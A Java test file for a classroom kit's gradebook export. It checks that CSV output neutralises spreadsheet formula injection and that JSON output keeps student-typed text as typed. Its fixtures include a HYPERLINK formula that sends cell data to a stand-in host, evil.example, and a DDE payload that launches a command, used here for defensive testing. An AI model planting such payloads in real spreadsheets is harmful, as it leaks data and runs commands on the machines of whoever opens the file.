package org.medialiteracy.kit.export;

import static org.assertj.core.api.Assertions.assertThat;
import static org.medialiteracy.kit.export.ExportFixtures.SUBMITTED;
import static org.medialiteracy.kit.export.ExportFixtures.attempt;
import static org.medialiteracy.kit.export.ExportFixtures.student;
import static org.medialiteracy.kit.export.ExportFixtures.submitted;

import java.util.List;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.medialiteracy.kit.classroom.AssignmentResults;
import org.medialiteracy.kit.classroom.AttemptChoice;
import org.medialiteracy.kit.lesson.Lesson;

/** Text a student or teacher typed never reaches a spreadsheet as a formula; numbers stay numbers. */
class ExportFormulaInjectionTest {

    private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";

    private final Lesson lesson = ExportFixtures.lesson();
    private final AssignmentResults results = ExportFixtures.results(7, "@SUM(1+1)*cmd|' /C calc'!A0", lesson,
            List.of(submitted(new org.medialiteracy.kit.classroom.RosterEntry(11, "+ana", HYPERLINK, 3, "-Period 3"),
                            attempt(lesson, 101, 1, 3, SUBMITTED, false)),
                    submitted(student(12, "ben", "Ben Okafor"), attempt(lesson, 102, 1, 0, SUBMITTED, false))));

    @ParameterizedTest
    @ValueSource(strings = {"=1+1", "+1", "-1", "@A1", "\tx", "\rx"})
    void text_starting_with_a_formula_trigger_gets_an_apostrophe(String text) {
        assertThat(FormulaGuard.neutralise(text)).isEqualTo("'" + text);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "Ana", "1+1", "a=b", " =1", "'=1"})
    void other_text_is_left_alone(String text) {
        assertThat(FormulaGuard.neutralise(text)).isEqualTo(text);
    }

    @Test
    void a_student_named_like_a_formula_is_neutralised_in_every_csv_format() {
        for (ExportFormat format : List.of(ExportFormat.CANVAS, ExportFormat.MOODLE, ExportFormat.GOOGLE,
                ExportFormat.DETAIL)) {
            String text = ExportParsing.write(List.of(results), new ExportOptions(format, AttemptChoice.BEST, false));
            assertThat(ExportParsing.csv(text)).as(format.name()).allSatisfy(row -> {
                for (String cell : row.values()) {
                    assertThat(cell).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-")
                            .doesNotStartWith("@");
                }
            });
        }
    }

    @Test
    void canvas_neutralises_name_login_section_and_title_cells() {
        List<CSVRecord> rows = ExportParsing.csv(ExportParsing.write(List.of(results),
                new ExportOptions(ExportFormat.CANVAS, AttemptChoice.BEST, false)));

        assertThat(rows.get(0).get(5)).isEqualTo("'@SUM(1+1)*cmd|' /C calc'!A0 (7)");
        assertThat(rows.get(2).values()).startsWith("'" + HYPERLINK, "11", "", "'+ana", "'-Period 3");
    }

    @Test
    void numeric_cells_are_written_as_plain_numbers() {
        List<CSVRecord> rows = ExportParsing.csv(ExportParsing.write(List.of(results),
                new ExportOptions(ExportFormat.CANVAS, AttemptChoice.BEST, false)));

        assertThat(rows.get(3).values()).startsWith("Ben Okafor", "12", "", "ben", "Period 3", "0", "0.00");
        assertThat(rows.get(1).get(5)).matches("\\d+");
    }

    @Test
    void json_keeps_the_text_exactly_as_typed() {
        var root = ExportParsing.json(ExportParsing.write(List.of(results),
                new ExportOptions(ExportFormat.JSON, AttemptChoice.BEST, false)));

        assertThat(root.at("/assignments/0/title").asString()).isEqualTo("@SUM(1+1)*cmd|' /C calc'!A0");
        assertThat(root.at("/assignments/0/students/0/displayName").asString()).isEqualTo(HYPERLINK);
    }
}
